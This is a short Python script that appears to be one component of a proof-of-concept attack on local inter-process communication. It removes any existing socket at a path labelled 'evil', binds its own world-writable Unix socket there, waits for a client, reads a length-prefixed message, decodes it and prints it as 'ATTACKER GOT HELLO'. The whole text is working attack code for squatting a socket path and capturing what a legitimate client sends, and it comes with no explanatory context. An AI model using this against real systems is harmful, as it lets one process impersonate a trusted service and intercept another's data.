import socket,os,struct,sys
sys.path.insert(0,__import__('os').path.dirname(__import__('os').path.abspath(__file__))); from mp import dec
p='/tmp/rv/evil/rumpus.sock'
try: os.unlink(p)
except: pass
s=socket.socket(socket.AF_UNIX); s.bind(p); os.chmod(p,0o777); s.listen(1); s.settimeout(20)
c,_=s.accept(); b=b''
while len(b)<4: b+=c.recv(100)
n=struct.unpack('<I',b[:4])[0]
while len(b)<4+n: b+=c.recv(4096)
print('ATTACKER GOT HELLO:', dec(b[4:4+n]), flush=True)
